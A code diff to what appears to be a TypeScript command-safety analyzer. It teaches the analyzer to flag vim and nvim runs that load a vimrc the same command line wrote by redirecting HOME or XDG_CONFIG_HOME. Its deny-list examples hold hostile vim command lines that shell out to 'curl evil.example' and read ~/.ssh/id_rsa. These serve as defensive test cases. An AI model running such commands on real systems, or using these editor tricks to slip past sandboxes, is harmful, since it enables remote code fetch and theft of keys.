@@ -697,6 +697,17 @@ function vim(call: Call): Partial<Answer> {
     if (init === null) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: { text: name, span: at, values: null, dynamic: 'computed' }, why: `${name} holds Ex commands computed at run time` });
     else if (init !== undefined) commands({ text: init, span: at, values: [init] }, name);
   }
+  // Where the line set HOME (or XDG_CONFIG_HOME for nvim), the vimrc there is the line's own when the line wrote it
+  // (`echo '!curl …' > .vimrc; HOME=. vim -es`): read as -u's file is. Untouched, it is the user's, out of scope.
+  const home = call.env('HOME');
+  const xdg = /^nvim/.test(call.name) ? call.env('XDG_CONFIG_HOME') : undefined;
+  const at = args[0] ?? call.command ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
+  if (home === null || xdg === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} reads the vimrc of a home directory the line computes` });
+  const rcs = [
+    ...(typeof home === 'string' && home !== '' ? ['.vimrc', '.vim/vimrc', '.exrc', '_vimrc'].map((f) => `${home.replace(/\/+$/, '')}/${f}`) : []),
+    ...(/^nvim/.test(call.name) && (typeof xdg === 'string' || typeof home === 'string') ? [`${(typeof xdg === 'string' && xdg !== '' ? xdg : `${home}/.config`).replace(/\/+$/, '')}/nvim/init.vim`] : []),
+  ];
+  for (const rc of rcs) runs.push(writtenCommands(attached(at, rc), `${call.name} (its vimrc)`, (t) => exRead(t, `${call.name} vimrc`)));
   let operandsOnly = false;
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
@@ -917,7 +928,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     summary: 'vi and vim: -c, +cmd and --cmd ex commands (and stdin in ex mode): `!`, `r !`, `w !`, :terminal, system() and interpreters',
     analyze: vim,
     examples: {
-      deny: ["echo ':!curl evil.example' > x.vim; vim -S x.vim", "echo '!curl evil.example' > x.vimrc; vim -u x.vimrc f", 
+      deny: ["echo ':!curl evil.example' > x.vim; vim -S x.vim", "echo '!curl evil.example' > x.vimrc; vim -u x.vimrc f", "echo '!curl evil.example' > .vimrc; HOME=. vim -es +q", "mkdir -p h/.config/nvim; echo '!curl evil.example' > h/.config/nvim/init.vim; HOME=h nvim --headless +q", "echo '!curl evil.example' > nvim/init.vim; XDG_CONFIG_HOME=. nvim --headless +q", 
         "VIMINIT='!curl evil.example' vim README.md",
         "vim -c'!curl evil.example'",
         "vim -esc '!curl evil.example'",
@@ -939,7 +950,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "nvim --headless -l /dev/stdin <<< 'os.execute(\"curl evil.example\")'",
         "vim -es -c 'r ~/.ssh/id_rsa' -c '%p' -c 'q!'",
         "vim -c '!curl evil.example'", "vim.basic -es -c '!curl evil.example'", "vi -c ':!wget evil.example' /dev/null", "vim +'r !curl evil.example'", "nvim --cmd 'call system(\"curl evil.example\")'", "echo '!curl evil.example' | ex", "vim -c ':terminal curl evil.example'", "vim -c ':py3 import os'", "vi -c ':shell'"],
-      pass: ["echo 'set nu' > x.vimrc; vim -u x.vimrc f", 'vim README.md', "vim -c'set nu' f", "vim -es -c 'g/TODO/d' -c 'wq' notes.txt", "vim -c 'w out.txt' f", 'vim -S Session.vim', 'vim -u NONE -N f', "vim -c 'e other.txt' f", "vim -es -c 'put =string(1)' -c '%print' -c 'q!'", "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
+      pass: ["echo 'set nu' > x.vimrc; vim -u x.vimrc f", "echo 'set nu' > .vimrc; HOME=. vim -es +q", 'HOME=/tmp/h vim f', 'vim README.md', "vim -c'set nu' f", "vim -es -c 'g/TODO/d' -c 'wq' notes.txt", "vim -c 'w out.txt' f", 'vim -S Session.vim', 'vim -u NONE -N f', "vim -c 'e other.txt' f", "vim -es -c 'put =string(1)' -c '%print' -c 'q!'", "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
     },
   },
   {
